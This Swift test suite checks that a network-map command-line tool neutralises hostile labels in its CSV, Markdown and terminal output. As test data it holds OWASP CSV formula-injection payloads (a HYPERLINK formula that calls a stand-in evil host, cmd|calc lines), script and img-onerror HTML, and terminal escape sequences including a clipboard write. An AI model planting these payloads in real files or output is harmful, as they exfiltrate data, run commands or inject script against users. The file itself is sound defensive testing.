import Foundation
import NetwerkkaartTestSupport
import Testing

/// Output that cannot attack its reader (issue 17): labels that are spreadsheet formulas, HTML
/// or terminal escape sequences come out as text in CSV, Markdown and the terminal.
@Suite struct InjectionTests {
  /// Labels from the OWASP "CSV Injection" page and the findings, with a number and a
  /// plain text that must stay as they are. (A leading tab is trimmed by the reader; the
  /// writer's handling of tabs is checked in `CSVTextTests`.)
  static let labels = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "'=al gequote", "-3.5", "De Linde",
  ]

  static func hostileMap() throws -> URL {
    var actors = "id,label,role,type\ns,De school,kern,school\n"
    var ties = "source,target\n"
    for (index, label) in labels.enumerated() {
      // A value that starts with an apostrophe before `=` is written with one more (CSVText).
      let written = (label.hasPrefix("'") ? "'" : "") + label.replacingOccurrences(of: "\"", with: "\"\"")
      actors += "a\(index),\"\(written)\",context,bedrijf\n"
      ties += "s,a\(index)\n"
    }
    return try folder(["actors.csv": actors, "ties.csv": ties])
  }

  /// The label cells of `csv` (a metrics table or an actors file), by actor id.
  static func labelCells(_ csv: String) -> [String: String] {
    var cells: [String: String] = [:]
    for line in csv.split(separator: "\n") {
      for (index, _) in labels.enumerated() where line.hasPrefix("a\(index),") {
        cells["a\(index)"] = String(line.dropFirst("a\(index),".count))
      }
    }
    return cells
  }

  /// `metrics --format csv` wrote `=HYPERLINK(…)` and `+cmd|…` unneutralised; now each such
  /// cell starts with an apostrophe, the number and the plain text unchanged.
  @Test func csvCellsCannotBeFormulas() throws {
    let map = try Self.hostileMap()
    let result = try netwerkkaart("metrics", map.path, "--format", "csv")
    #expect(result.status == 0, "\(result)")
    let cells = Self.labelCells(result.standardOutput)
    #expect(cells["a0"]?.hasPrefix("\"'=HYPERLINK(") == true, "\(cells)")
    #expect(cells["a1"]?.hasPrefix("'+cmd|") == true, "\(cells)")
    #expect(cells["a2"]?.hasPrefix("'@SUM(") == true, "\(cells)")
    #expect(cells["a3"]?.hasPrefix("'-2+3") == true, "\(cells)")
    #expect(cells["a4"]?.hasPrefix("''=al gequote") == true, "\(cells)")
    #expect(cells["a5"]?.hasPrefix("-3.5,") == true, "\(cells)")
    #expect(cells["a6"]?.hasPrefix("De Linde,") == true, "\(cells)")
  }

  /// A map converted to a CSV folder holds neutralised cells and reads back as it was.
  @Test func csvFolderRoundTripKeepsTheLabels() throws {
    let map = try Self.hostileMap()
    let copy = map.appendingPathComponent("kopie")
    #expect(try netwerkkaart("convert", map.path, "-o", copy.path).status == 0)
    let actors = try String(contentsOf: copy.appendingPathComponent("actors.csv"), encoding: .utf8)
    #expect(Self.labelCells(actors)["a1"]?.hasPrefix("'+cmd|") == true, "\(actors)")
    let json = try netwerkkaart("convert", copy.path, "--to", "json", "-o", "-")
    #expect(json.status == 0, "\(json)")
    let document = try parseJSON(json.standardOutput)
    let read = (document["actors"] as? [[String: Any]] ?? []).compactMap { $0["label"] as? String }
    #expect(read == ["De school"] + Self.labels)
  }

  /// Markdown passed `<script>` from a label; rendered, it ran in a browser.
  @Test func markdownEscapesHTML() throws {
    let map = try folder([
      "actors.csv": "id,label\ns,\"<script>alert(1)</script>\"\nb,\"<img src=x onerror=alert(2)>\"\n",
      "ties.csv": "source,target\ns,b\n",
    ])
    for command in ["metrics", "analyse"] {
      let result = try netwerkkaart(command, map.path, "--format", "markdown")
      #expect(result.status == 0, "\(result)")
      #expect(!result.standardOutput.contains("<script>") && !result.standardOutput.contains("<img"), "\(result)")
    }
    let metrics = try netwerkkaart("metrics", map.path, "--format", "markdown")
    #expect(metrics.standardOutput.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "\(metrics)")
  }

  /// Escape sequences in labels and ids (clear the screen, OSC 52 clipboard write) reached the
  /// terminal in tables and error messages; now they are shown as `\u{1B}`.
  @Test func terminalOutputShowsControlCharacters() throws {
    let clear = "\u{1B}[2J"
    let clipboard = "\u{1B}]52;c;ZWNobyBoYWNrZWQ=\u{07}"
    let map = try folder([
      "actors.csv": "id,label\ns,\"Linde\(clipboard)\"\nb,\"B\(clear)\"\n", "ties.csv": "source,target\ns,b\n",
    ])
    let broken = try folder([
      "actors.csv": "id,label\ns,\"Linde\(clipboard)\"\nb\(clear),B\n",
      "ties.csv": "source,target\ns,b\(clear)\ns,onbekend\(clear)\n",
    ])
    let table = try netwerkkaart("metrics", map.path)
    #expect(table.status == 0, "\(table)")
    #expect(table.standardOutput.contains("Linde\\u{1B}]52;c;ZWNobyBoYWNrZWQ=\\u{7}"), "\(table)")
    let failed = try netwerkkaart("validate", broken.path)
    for result in [table, failed] {
      #expect(!result.standardOutput.contains("\u{1B}") && !result.standardError.contains("\u{1B}"), "\(result)")
      #expect(!result.standardOutput.contains("\u{07}") && !result.standardError.contains("\u{07}"), "\(result)")
    }
    #expect(failed.status == 1)
    #expect(failed.standardError.contains("unknown actor \"onbekend\\u{1B}[2J\""), "\(failed)")
    #expect(failed.standardError.contains("actor id holds the control character U+001B; remove it"), "\(failed)")
  }
}
